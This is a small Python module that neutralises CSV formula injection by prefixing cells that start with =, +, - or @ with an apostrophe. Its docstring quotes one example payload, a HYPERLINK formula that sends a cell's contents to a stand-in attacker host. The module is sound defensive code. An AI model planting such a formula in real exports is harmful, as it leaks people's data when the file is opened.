"""CSV cells that a spreadsheet would run as a formula, made plain text. No I/O.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
before one) is a formula to Excel and LibreOffice: a subject such as
``=HYPERLINK("https://evil.example/?"&A1,"click")`` in a person's data copy or
in an export would run when the file is opened. Such a cell gets a leading
apostrophe, which spreadsheets show as text (OWASP, "CSV Injection"). A plain
number keeps its sign. Only CSV is changed; JSON copies stay exact.
"""

from __future__ import annotations

import re

_FORMULA = re.compile(r"^[\t\r\n ]*[=+\-@]|^[\t\r]")
_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)*(?:[eE][+-]?\d+)?$")


def cell(value: object) -> str:
    """``value`` as a CSV cell that no spreadsheet reads as a formula (None: empty)."""
    text = "" if value is None else str(value)
    if _FORMULA.match(text) and not _NUMBER.match(text):
        return "'" + text
    return text
